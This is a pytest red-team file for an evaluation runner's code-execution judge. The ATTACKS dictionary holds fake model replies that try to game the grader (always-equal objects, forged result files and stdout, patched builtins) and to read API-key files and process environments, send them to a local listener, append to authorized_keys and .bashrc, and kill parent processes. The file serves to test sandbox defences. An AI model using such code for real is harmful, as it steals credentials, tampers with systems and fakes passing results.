"""Red team: a real ``eloledger run`` whose model replies are attacks on the tests judge.

A strict local gateway answers each task's prompt with one attack (a fenced Python block);
the run judges them with the task's asserts. Every attack must score 0 and not pass, the
honest control must pass, and around the run: the canary key (the gateway key, also planted
in ~/.claude/settings.json, ~/.codex/auth.json and eloledger's secrets file) reaches no
listener on 127.0.0.1, no file outside those 0600 stores and no output; the user's files,
the spec, the tasks and a host /tmp test file stay byte-identical; no process the replies
started survives; the run exits normally and its ledger reads back.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

import runner_cli
from sandbox_support import need_sandbox, processes_with
from strict_gateway import GatewayConfig, serve

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="Linux sandbox")

CANARY = "sk-canary-" + "7f3a9c" * 6
MARKER = "4242.4217"  # in the command line of every sleeper an attack starts
TESTS = (
    "assert add(1, 2) == 3\nassert add(-1, 1) == 0\nassert add(2, 2) == 4\n"
    "assert len([add(1, 2)] * add(2, 2)) == 4\nassert math.isclose(add(0.5, 0.25), 0.75)\n"
)

# {port}, {home}, {ledger}, {victim}, {spec} are filled in per test; every attack defines a
# wrong add() (or none) and tries to get a pass anyway, or to do harm.
SEND = (
    "def send(data):\n"
    "    import socket\n"
    "    try:\n"
    "        s = socket.create_connection(('127.0.0.1', {port}), timeout=1)\n"
    "        s.sendall(data if isinstance(data, bytes) else str(data).encode()); s.close()\n"
    "    except OSError:\n"
    "        pass\n"
)
ATTACKS: dict[str, str] = {
    "main_result": "import __main__, os\n__main__.result.update(total=1, passed=1)\n"
    "__main__.finish()\nos._exit(0)\n",
    "builtins_exec": "import builtins\nbuiltins.exec = lambda *a, **k: None\n"
    "builtins.AssertionError = type('X', (BaseException,), {{}})\ndef add(a, b):\n    return 7\n",
    "result_json": "import os\nfor p in ('result.json', '/work/result.json', '../result.json'):\n"
    "    try:\n        open(p, 'w').write('{{\"total\": 1, \"passed\": 1}}')\n"
    "    except OSError:\n        pass\nos._exit(0)\n",
    "fake_stdout": "import os, sys\nline = b'{{\"total\": 3, \"passed\": 3, \"error\": null, "
    "\"gone\": null}}\\n'\nfor fd in (1, 2, 3, 4, 5):\n    try:\n        os.write(fd, line)\n"
    "    except OSError:\n        pass\nos._exit(0)\n",
    "always_equal": "class A:\n    def __eq__(self, other):\n        return True\n"
    "    __hash__ = object.__hash__\ndef add(a, b):\n    return A()\n",
    "int_subclass": "class I(int):\n    def __eq__(self, other):\n        return True\n"
    "def add(a, b):\n    return I(7)\n",
    "forged_reply": "import os, json\ndef add(a, b):\n    os.write(3, json.dumps({{'id': 99, "
    "'ok': 3}}).encode() + b'\\n')\n    return 7\n",
    "ppid_environ": SEND + "import os\nfor pid in ['self', str(os.getppid())] + os.listdir('/proc'):\n"
    "    try:\n        send(open(f'/proc/{{pid}}/environ', 'rb').read())\n"
    "    except OSError:\n        pass\ndef add(a, b):\n    return 7\n",
    "read_secrets": SEND + "import glob\nfor p in ['{home}/.claude/settings.json', "
    "'{home}/.codex/auth.json', '{home}/.config/eloledger/secrets.toml'] + "
    "glob.glob('{home}/**', recursive=True):\n    try:\n        send(open(p, 'rb').read())\n"
    "    except OSError:\n        pass\ndef add(a, b):\n    return 7\n",
    "kill_parent": "import os, signal\nfor pid in (os.getppid(), 1, -1):\n    try:\n"
    "        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass\n"
    "def add(a, b):\n    return 7\n",
    "write_files": "import glob, os\nfor p in ['{ledger}', '{home}/.bashrc', "
    "'{home}/.ssh/authorized_keys', '{victim}', '{spec}']:\n    try:\n"
    "        open(p, 'a').write('owned\\n')\n    except OSError:\n        pass\n"
    "for p in glob.glob('/tmp/**/test*.py', recursive=True):\n    try:\n"
    "        open(p, 'w').write('owned')\n    except OSError:\n        pass\n"
    "def add(a, b):\n    return 7\n",
    "sleepers": "import os, sys\nfor _ in range(30):\n    try:\n        if os.fork() == 0:\n"
    "            os.setsid()\n            if os.fork() == 0:\n"
    "                os.execvp('sleep', ['sleep', '" + MARKER + "'])\n            os._exit(0)\n"
    "    except OSError:\n        break\ndef add(a, b):\n    return 7\n",
    "sleeper_on_call": "import os\ndef add(a, b):\n    if os.fork() == 0:\n        os.setsid()\n"
    "        os.execvp('sleep', ['sleep', '" + MARKER + "'])\n    return 7\n",
    "exit_on_call": "import os\ndef add(a, b):\n    os._exit(0)\n",
    "hang": "def add(a, b):\n    while True:\n        pass\n",
    "shadow_builtins": "def add(a, b):\n    return 7\ndef len(x):\n    return 4\n"
    "class math:\n    isclose = staticmethod(lambda *a: True)\n",
    "huge_reply": "def add(a, b):\n    return 'x' * (64 << 20)\n",
}
HONEST = "def add(a, b):\n    return a + b\n"


class Listener:
    """A TCP listener on 127.0.0.1 that keeps every byte it is sent."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.sock.settimeout(0.1)
        self.port = self.sock.getsockname()[1]
        self.received = bytearray()
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    while chunk := conn.recv(65536):
                        self.received.extend(chunk)
                except OSError:
                    pass

    def close(self) -> None:
        self.stop = True
        self.thread.join(timeout=5)
        self.sock.close()


def _digest(paths: list[Path]) -> dict[str, str]:
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in paths}


def _plant(home: Path) -> list[Path]:
    """The user's secrets and files an attack goes after; returns the 0600 stores."""
    stores = []
    for rel, text in [
        (".claude/settings.json", json.dumps({"env": {"ANTHROPIC_API_KEY": CANARY}})),
        (".codex/auth.json", json.dumps({"OPENAI_API_KEY": CANARY})),
        (".config/eloledger/secrets.toml", f'[keys]\nstrict = "{CANARY}"\n'),
    ]:
        path = home / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        path.chmod(0o600)
        stores.append(path)
    (home / ".bashrc").write_text("# the user's shell\n")
    (home / ".ssh").mkdir(mode=0o700)
    (home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA user@host\n")
    return stores


@pytest.fixture
def need_bwrap() -> None:
    need_sandbox()


def test_every_attack_scores_zero_and_harms_nothing(
    tmp_path: Path, temp_home: Path, need_bwrap: None, request: pytest.FixtureRequest
) -> None:
    home = temp_home
    stores = _plant(home)
    listener = Listener()
    victim_dir = Path(f"/tmp/eloledger-victim-{os.getpid()}-{time.monotonic_ns()}")
    victim_dir.mkdir()
    request.addfinalizer(lambda: shutil.rmtree(victim_dir, ignore_errors=True))
    victim = victim_dir / "test_victim.py"
    victim.write_text("assert True\n")
    ledger = tmp_path / "out" / "run.jsonl"
    ledger.parent.mkdir()
    spec_path = tmp_path / "spec.toml"
    fill = {"port": listener.port, "home": home, "ledger": ledger, "victim": victim,
            "spec": spec_path}  # fmt: skip
    replies = {f"ATTACK {name}": "```python\n" + code.format(**fill) + "```"
               for name, code in ATTACKS.items()}  # fmt: skip
    replies["HONEST add"] = f"```python\n{HONEST}```"
    tests = "import math\n" + TESTS  # the tests import what they use
    tasks = runner_cli.write_tasks(
        tmp_path / "tasks.jsonl",
        [{"task_id": prompt.split()[1], "prompt": prompt + ": write add(a, b)", "tests": tests}
         for prompt in replies],
    )  # fmt: skip

    def reply(prompt: str) -> str:
        return next((r for p, r in replies.items() if p in prompt), "no")

    config = GatewayConfig(keys=frozenset({CANARY}), reply=reply)
    try:
        with serve(config) as gw:
            runner_cli.add_profile(gw.root, key=CANARY)
            runner_cli.write_spec(tmp_path, tasks, arms='[[arms]]\nname = "one"\n',
                                  judge='[judge]\nkind = "tests"\ntimeout_s = 2\n')  # fmt: skip
            assert spec_path.exists()
            watched = [*stores, home / ".bashrc", home / ".ssh/authorized_keys", victim,
                       spec_path, tasks]  # fmt: skip
            before = _digest(watched)
            done = runner_cli.run(spec_path, ledger, key=CANARY, timeout=300)
            after_run = time.monotonic()
            ledger_bytes = ledger.read_bytes()
    finally:
        listener.close()
    # no process an attack started outlives the run (waited for as an event, not a budget)
    while processes_with(MARKER) and time.monotonic() - after_run < 10:
        time.sleep(0.1)
    assert processes_with(MARKER) == []
    assert done.returncode in (0, 1), done.stderr
    assert "Traceback" not in done.stderr and "Event loop is closed" not in done.stderr
    rows = [r for r in runner_cli.rows(ledger) if r.get("role") == "sample"]
    by_task = {r["task_id"]: r for r in rows}
    assert set(by_task) == {*ATTACKS, "add"}, sorted(by_task)
    assert by_task["add"]["passed"] is True and by_task["add"]["score"] == 1.0
    for name in ATTACKS:
        row = by_task[name]
        assert row["score"] == 0 and row["passed"] is False, (name, row)
    assert {r.get("sandbox") for r in rows} == {"bwrap"}
    # the canary: never at the listener, in an output, or in a file outside the 0600 stores
    assert CANARY.encode() not in listener.received
    assert b"sk-canary" not in listener.received
    assert CANARY not in done.stdout + done.stderr
    for root in (tmp_path, home):
        for path in root.rglob("*"):
            if path.is_file() and not path.is_symlink() and path not in stores:
                assert CANARY.encode() not in path.read_bytes(), path
    assert _digest(watched) == before
    assert b"owned" not in ledger_bytes.splitlines()  # (the attacks' code is in "content")
    assert all(json.loads(line) for line in ledger_bytes.splitlines())
    tokens = subprocess.run(
        [sys.executable, "-m", "eloledger", "tokens", str(ledger), "--format", "json"],
        capture_output=True, text=True, env=runner_cli.env(CANARY), timeout=60,
    )  # fmt: skip
    assert tokens.returncode == 0, tokens.stderr
